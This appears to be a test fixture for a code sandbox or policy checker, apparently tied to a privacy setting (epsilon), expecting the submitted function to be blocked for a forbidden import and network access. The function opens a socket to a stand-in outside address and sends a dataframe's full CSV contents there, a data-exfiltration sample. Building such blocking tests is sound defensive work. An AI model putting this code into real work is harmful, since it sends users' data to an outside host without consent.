# Opens a socket to send the data away.
# entry: attack
# epsilon: 0.1
# expect: blocked
# expect-rules: forbidden_import, network_access
def attack(df):
    import socket

    connection = socket.create_connection(("203.0.113.5", 80))
    connection.sendall(df.to_csv().encode())
    return 1
